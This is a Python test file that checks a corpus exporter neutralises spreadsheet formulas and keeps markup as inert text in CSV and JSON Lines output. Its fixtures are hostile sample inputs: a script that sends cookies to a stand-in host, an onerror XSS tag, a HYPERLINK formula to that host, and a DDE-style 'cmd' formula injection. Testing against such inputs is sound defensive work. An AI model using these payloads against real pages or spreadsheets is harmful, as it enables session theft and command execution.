"""No code from notices runs in exports: a notice whose text holds `<script>`, `onerror=` and `=HYPERLINK(`
comes out of the CSV export as inert text (formula cells prefixed with ', markup kept as literal text for
the analyst to see) and out of JSON Lines unchanged. Completes tests/test_corpus_export.py, whose hostile
notice has no `<script>`; the HTML report is covered by tests/test_corpus_report.py."""
from __future__ import annotations

import csv
import json

from tongbao.corpus import Corpus
from tongbao.corpus.export import export_corpus
from tests.test_corpus_records import make_record

SCRIPT = '<script>fetch("http://evil.example/"+document.cookie)</script>'
ONERROR = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/","点我")'


def _corpus(path) -> Corpus:
    corpus = Corpus(path)
    corpus.add_record(make_record("hostile", cited=[("大冶市教育局", FORMULA), ("大冶市民政局", SCRIPT),
                                                    ("大冶市财政局", "+1+cmd|' /C calc'!A0")],
                                  extra_text=SCRIPT + ONERROR + FORMULA, title=SCRIPT + "关于检查情况的通报"))
    return corpus


def test_csv_export_keeps_markup_as_text_and_neutralises_formulas(tmp_path):
    with _corpus(tmp_path / "c.duckdb") as corpus:
        export_corpus(corpus, tmp_path / "csv", "csv")
    with (tmp_path / "csv" / "citations.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    categories = sorted(r["category"] for r in rows)
    assert categories == sorted(["'" + FORMULA, SCRIPT, "'+1+cmd|' /C calc'!A0"])
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
        assert SCRIPT in row["text"] and ONERROR in row["text"] and FORMULA in row["text"]
    with (tmp_path / "csv" / "notices.csv").open(encoding="utf-8-sig", newline="") as f:
        (notice,) = list(csv.DictReader(f))
    assert notice["title"] == SCRIPT + "关于检查情况的通报"


def test_jsonl_export_carries_the_text_unchanged(tmp_path):
    with _corpus(tmp_path / "c.duckdb") as corpus:
        export_corpus(corpus, tmp_path / "jsonl", "jsonl")
    lines = (tmp_path / "jsonl" / "citations.jsonl").read_text(encoding="utf-8").splitlines()
    categories = sorted(json.loads(line)["category"] for line in lines)
    assert categories == sorted([FORMULA, SCRIPT, "+1+cmd|' /C calc'!A0"])  # JSON is data, not a spreadsheet
